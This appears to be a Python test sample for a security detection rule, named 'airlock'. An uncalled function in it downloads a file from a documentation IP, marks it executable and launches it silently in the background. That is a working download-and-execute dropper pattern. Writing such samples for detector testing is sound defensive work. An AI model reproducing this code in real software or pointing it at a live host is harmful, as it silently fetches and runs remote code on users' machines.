# airlock rule test sample. Never executed by tests; the payload sits in a function
# that is never called, and uses only documentation IPs / .invalid hosts.
import os
import stat
import subprocess
import tempfile
import urllib.request

def _never():
    dest = os.path.join(tempfile.gettempdir(), ".airlock-sample-agent")
    urllib.request.urlretrieve("http://203.0.113.23/agent", dest)
    os.chmod(dest, os.stat(dest).st_mode | stat.S_IXUSR)
    subprocess.Popen([dest], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
